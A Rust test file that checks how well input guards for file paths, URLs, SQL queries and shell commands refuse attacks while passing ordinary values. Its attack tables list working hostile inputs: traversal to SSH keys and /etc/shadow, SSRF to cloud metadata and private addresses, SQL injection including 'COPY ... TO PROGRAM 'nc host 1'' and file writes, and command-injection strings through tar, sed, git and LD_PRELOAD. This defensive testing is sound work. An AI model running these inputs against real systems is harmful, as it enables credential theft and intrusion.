//! How many attacks the guards refuse, and how many plain values they let through: over tables of its own always, and over the development set in
//! the folder that `BASTIDE_DATA` names.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking, its helpers too")]
#![allow(clippy::disallowed_methods, reason = "the set is a file that the environment names; the crate itself knows neither")]

use guards::jsonl::answer;
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// The share of attacks that must be refused, and of plain values that may be.
const CAUGHT: f64 = 0.99;
const WRONG: f64 = 0.01;

#[derive(Default)]
struct Score {
    attacks: u32,
    refused: u32,
    plain: u32,
    wronged: u32,
    misses: Vec<String>,
}

impl Score {
    fn count(&mut self, request: &Value, blocked: bool) {
        let said: Value = serde_json::from_str(&answer(request)).unwrap();
        let refuses = said["decisions"][0] != "allow";
        if blocked {
            self.attacks += 1;
            self.refused += u32::from(refuses);
        } else {
            self.plain += 1;
            self.wronged += u32::from(refuses);
        }
        if refuses != blocked {
            self.misses.push(format!("{}: {} {}", if blocked { "passes" } else { "is refused" }, request["value"], said["reason"]));
        }
    }

    fn holds(&self) {
        let (caught, wrong) =
            (f64::from(self.refused) / f64::from(self.attacks.max(1)), f64::from(self.wronged) / f64::from(self.plain.max(1)));
        println!("{} of {} attacks refused, {} of {} plain values", self.refused, self.attacks, self.wronged, self.plain);
        assert!(caught >= CAUGHT && wrong <= WRONG, "{caught:.3} caught, {wrong:.3} wrong:\n{}", self.misses.join("\n"));
    }
}

fn policies() -> BTreeMap<&'static str, Value> {
    BTreeMap::from([
        ("files", json!({"guard": "files", "policy": {"roots": ["/home/ana/notes", "/mnt/share"], "write": true}})),
        (
            "http",
            json!({"guard": "http", "policy": {"schemes": ["https"], "allow_hosts": ["wiki.example.net", "*.files.example.net"], "deny_private": true}}),
        ),
        ("web", json!({"guard": "http", "policy": {"schemes": ["http", "https"], "allow_hosts": ["*"], "deny_private": true}})),
        ("postgres", json!({"guard": "sql", "policy": {"dialect": "postgres", "mode": "read-only"}})),
        ("mysql", json!({"guard": "sql", "policy": {"dialect": "mysql", "mode": "read-only"}})),
        ("sqlite", json!({"guard": "sql", "policy": {"dialect": "sqlite", "mode": "read-only"}})),
        (
            "process",
            json!({"guard": "process", "policy": {"allowed": ["git", "ls", "tar", "find", "make", "node", "sed", "awk", "env", "curl"], "cwd": "/home/ana/notes"}}),
        ),
    ])
}

const ATTACKS: &[(&str, &[&str])] = &[
    (
        "files",
        &[
            "/home/ana/notes/../.ssh/id_ed25519",
            "..%2f..%2f..%2fetc%2fshadow",
            "/home/ana/notes2/a",
            "~ana/.netrc",
            "${HOME}/.netrc",
            "C:/Windows/win.ini",
            "//nas/secret",
            "/proc/1/root/etc",
            "a\u{0}b",
            "x/%00",
            "....//....//....//etc/hosts",
            "..;/..;/..;/etc",
            "．．/．．/．．/etc",
            "LPT1",
            "FiLe:///etc/hosts",
            "a -> /etc",
            "a -> b -> ../../../root",
        ],
    ),
    (
        "http",
        &[
            "http://wiki.example.net/",
            "https://wiki.example.net.evil.org/",
            "https://wiki.example.net@evil.org",
            "https://wiki.example.net\\.evil.org/",
            "https://evil.org/wiki.example.net",
            "https://wiki.example.net:22/",
            "ftp://wiki.example.net/",
            "https://files.example.net/",
            "https://wiki.example.net/ -> https://evil.org/",
            "https://wіki.example.net/",
        ],
    ),
    (
        "web",
        &[
            "http://127.0.0.1/",
            "http://127.0.1.1/",
            "http://[::]:80/",
            "http://0x0a000001/",
            "http://012.0.0.1/",
            "http://3232235777/",
            "http://10.1/",
            "http://100.100.100.200/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://[64:ff9b::127.0.0.1]/",
            "http://foo.localhost/",
            "http://vault.service.consul/",
            "http://192.168.1.1.nip.io/",
            "http://a.example/ -> http://10.0.0.1/",
            "http://①⑦②.16.0.1/",
            "http://169.254.169.254.:80/",
        ],
    ),
    (
        "postgres",
        &[
            "DELETE FROM users",
            "SELECT 1; DELETE FROM users",
            "WITH x AS (UPDATE a SET b = 1 RETURNING *) SELECT * FROM x",
            "COPY users TO PROGRAM 'nc host 1'",
            "SELECT pg_read_binary_file('/etc/hosts')",
            "SELECT current_setting('a'), set_config('a', 'b', true)",
            "DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$",
            "EXPLAIN ANALYZE UPDATE a SET b = 1",
            "SELECT * FROM pg_authid",
            "SELECT lo_get(1)",
            "SELECT nextval('a')",
            "SELECT * FROM a FOR NO KEY UPDATE",
            "CREATE ROLE x SUPERUSER",
            "SELECT pg_ls_logdir()",
            "SELECT xmlparse(document '<a/>') FROM pg_sleep(5)",
        ],
    ),
    (
        "mysql",
        &[
            "SELECT 'x' INTO OUTFILE '/var/www/a.php'",
            "SELECT /*!99999 1 */",
            "SELECT LOAD_FILE(0x2f657463)",
            "SELECT IF(1, SLEEP(5), 0)",
            "SELECT BENCHMARK(1000000, MD5('a'))",
            "SELECT * FROM mysql.user",
            "SET @a = 1",
            "INSERT INTO a VALUES (1)",
        ],
    ),
    (
        "sqlite",
        &[
            "ATTACH 'a.db' AS b",
            "SELECT load_extension('a.so')",
            "PRAGMA writable_schema=ON",
            "SELECT writefile('a', x'00')",
            "VACUUM INTO 'b.db'",
        ],
    ),
    (
        "process",
        &[
            "git status; id",
            "git log $(id)",
            "ls\tx && id",
            "/opt/git status",
            "tar xf a --checkpoint=1 --checkpoint-action=exec=id",
            "find . -name x -exec id {} +",
            "find / -name x",
            "make SHELL='/bin/sh'",
            "node -p process.env",
            "sed '1e id' a",
            "sed -n 's/x/id/e' a",
            "awk 'BEGIN { system(\"id\") }'",
            "env sh -c id",
            "env PATH=. ls",
            "git clone 'ext::sh -c id'",
            "git -c alias.x=!id x",
            "curl file:///etc/passwd",
            "curl -K conf",
            "ls /root",
            "git diff --ext-diff",
            "LD_PRELOAD=./x ls",
            "ls ~/.ssh",
            "bash -c id",
            "g\u{200b}it status",
        ],
    ),
];

const PLAIN: &[(&str, &[&str])] = &[
    (
        "files",
        &[
            "todo.md",
            "/home/ana/notes/2026/11/plan (final).md",
            "/mnt/share/Ünïcode/書類.txt",
            "./a/../b.md",
            "/home/ana/notes/50%.md",
            "/home/ana/notes/a+b=c.md",
            "auxiliary/console.md",
            "/home/ana/notes/file..bak",
            "/home/ana/notes/C++/x.h",
            "x -> y/z",
            "/home/ana/notes/#1 idea.md",
            "/home/ana/notes/.env.example",
        ],
    ),
    (
        "http",
        &[
            "https://wiki.example.net",
            "https://wiki.example.net/a?b=c#d",
            "https://WIKI.example.net:443/",
            "https://x.y.files.example.net/z",
            "https://wiki.example.net/user@host",
            "https://wiki.example.net/r?u=http://127.0.0.1/",
            "https://wiki.example.net/ -> /next -> https://a.files.example.net/",
        ],
    ),
    (
        "web",
        &[
            "http://1.1.1.1/",
            "https://example.com:8443/",
            "https://bücher.example/",
            "https://[2a00:1450:4001::1]/",
            "http://example.com/127.0.0.1",
            "https://localhost.example.com/",
            "https://sub-domain.example.co.uk/a%20b",
        ],
    ),
    (
        "postgres",
        &[
            "SELECT a, sum(b) FROM t GROUP BY a",
            "WITH x AS (SELECT 1) SELECT * FROM x;",
            "SELECT * FROM t WHERE note LIKE '%drop table%'",
            "SELECT to_char(now(), 'YYYY')",
            "SELECT jsonb_agg(x) FROM t",
            "SHOW timezone",
            "EXPLAIN SELECT * FROM t",
            "SELECT id FROM \"update\"",
            "SELECT array_agg(DISTINCT a ORDER BY a) FROM t",
            "SELECT row_number() OVER (ORDER BY a) FROM t",
        ],
    ),
    (
        "mysql",
        &[
            "SELECT * FROM `order` LIMIT 10",
            "SHOW TABLES",
            "SELECT CONCAT(a, '; drop') FROM t",
            "DESCRIBE t",
            "SELECT COUNT(*) FROM t WHERE a REGEXP '^x'",
        ],
    ),
    ("sqlite", &["SELECT name FROM sqlite_schema", "PRAGMA table_info('t')", "SELECT strftime('%Y', a) FROM t"]),
    (
        "process",
        &[
            "git commit -m 'a; b'",
            "git log --oneline -n 3",
            "ls -la sub",
            "tar czf a.tgz sub",
            "find . -name '*.md' -mtime -7",
            "make -j2 test",
            "node tool.js --eval-mode x",
            "sed -n 5p a.txt",
            "awk -F, '{ print $2 }' a.csv",
            "curl -sS https://example.com/a",
            "env",
            "git show HEAD~2:a.md",
        ],
    ),
];

#[test]
fn attacks_are_refused_and_plain_values_pass() {
    let policies = policies();
    let mut score = Score::default();
    for (table, blocked) in [(ATTACKS, true), (PLAIN, false)] {
        for (name, values) in table {
            for value in *values {
                let mut request = policies[name].clone();
                request["value"] = json!(value);
                score.count(&request, blocked);
            }
        }
    }
    score.holds();
}

#[test]
fn the_development_set_is_judged_as_it_is_labelled() {
    let Some(folder) = std::env::var_os("BASTIDE_DATA") else {
        println!("skipped: BASTIDE_DATA names no folder with arguments.jsonl in it");
        return;
    };
    let text = std::fs::read_to_string(std::path::Path::new(&folder).join("arguments.jsonl")).unwrap();
    let mut score = Score::default();
    for line in text.lines().filter(|line| !line.trim().is_empty()) {
        let record: Value = serde_json::from_str(line).unwrap();
        score.count(&json!({"guard": record["guard"], "policy": record["policy"], "value": record["value"]}), record["expect"] == "block");
    }
    score.holds();
}
